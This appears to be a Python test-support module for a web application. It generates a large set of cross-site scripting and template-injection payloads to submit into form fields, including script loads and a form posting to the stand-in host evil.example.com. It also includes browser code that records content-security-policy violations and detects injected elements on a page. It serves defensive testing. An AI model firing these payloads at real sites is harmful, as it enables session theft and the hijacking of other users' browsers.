"""What somebody writes into a field in the hope that it runs in the browser of whoever reads it."""

from itertools import product

CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)")
EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerrawupdate", "onanimationend")
ELEMENTS = (
    *("<img src=x {}={} id=evil>", "<svg {}={} id=evil>", "<svg/{}={}//id=evil ", "<body {}={} id=evil>"),
    *("<input autofocus {}={} id=evil>", "<details open {}={} id=evil>", "<video src {}={} id=evil>"),
)
BREAKS = ('"{}', "'{}", '">{}', "'>{}", "-->{}", "]]>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}")
INNER = (
    "<script id=evil>alert(1)</script>",
    " onfocus=alert(1) autofocus id=evil x=",
    "<img src=x onerror=alert(1) id=evil>",
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "&#106;avascript:"),
    *("vbscript:", "data:text/html,"),
)
OTHERS = (
    *("<script id=evil>alert(1)</script>", "<script src=//evil.example.com/x.js id=evil></script>"),
    *("<ScRiPt>alert(1)", "<iframe srcdoc='<script>parent.alert(1)</script>' id=evil>"),
    *("<object data=javascript:alert(1) id=evil>", "<embed src=javascript:alert(1) id=evil>"),
    *("<base href=//evil.example.com/ id=evil>", "<meta http-equiv=refresh id=evil"),
    *("<link rel=stylesheet href=//evil.example.com/x.css id=evil>", "<style id=evil>*{display:none}</style>"),
    *("<div style='position:fixed;inset:0' id=evil>", "<form action=//evil.example.com id=evil>"),
    *("<math id=evil><mtext>", "<template id=evil><script>alert(1)"),
    "<noscript><p title='</noscript><img src=x onerror=alert(1) id=evil>'>",
    *("<x hx-get=/settings hx-trigger=load id=evil>", "<x hx-on:load=alert(1) id=evil>", "<a data-on=evil id=evil>"),
    *("evil{{7*7}}", "evil{%print(7*7)%}", "evil${7*7}", "evil<%=7*7%>", "evil#{7*7}", "{{config}}"),
    *("{{''.__class__}}", "\uff1cscript id=evil\uff1ealert(1)\uff1c/script\uff1e"),
    *("\u02c2img src=x onerror=alert(1) id=evil\u02c3", "\u202e<script id=evil>\u202c", "%3Cscript id=evil%3E"),
    *("&lt;script id=evil&gt;", "\\u003cscript id=evil\\u003e", "+ADw-script id=evil+AD4-"),
    *("<scr<script>ipt id=evil>", "<<script id=evil>>", "<img src=`x`onerror=alert(1) id=evil>"),
)
PAYLOADS = (
    *(element.format(event, call) for element, event, call in product(ELEMENTS, EVENTS, CALLS)),
    *(outer.format(inner) for outer, inner in product(BREAKS, INNER)),
    *(f"<a href='{scheme}alert(1)' id=evil>x</a>" for scheme in SCHEMES),
    *(f"{scheme}alert(1)" for scheme in SCHEMES),
    *OTHERS,
)
PLAIN = tuple(one.strip() for one in PAYLOADS if one.isprintable())
"""Those without a sign that an id or the name of an event may not hold."""
SHORT = tuple(one for one in PLAIN if len(one) <= 60)
"""Those that a name has room for."""
LISTENING = """
window.violations = [];
const noted = (one) => window.violations.push(`${one.violatedDirective} ${one.blockedURI}`);
document.addEventListener('securitypolicyviolation', noted);
"""
"""Notes what the page's policy refused."""
THEIRS = """() => {
    const runs = ['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'style'];
    const where = /^[\\s\\x00-\\x1f]*(javascript|vbscript|data:text)|evil[.]example/i;
    const runs_at = ({name, value}) => /^(on|hx-on)/i.test(name) || (runs.includes(name) && where.test(value));
    const theirs = (element) => element.id === 'evil' || element.matches('script:not([src^="/assets/"])')
        || [...element.attributes].some(runs_at);
    const found = [...document.querySelectorAll('*')].filter(theirs).map((one) => one.outerHTML.slice(0, 200));
    const worked_out = document.body.innerText.match(/evil49/g) || [];
    return [...found, ...window.violations, ...worked_out];
}"""
"""Finds on a page what is not ours: elements, handlers, addresses that run; what was refused, or was worked out."""
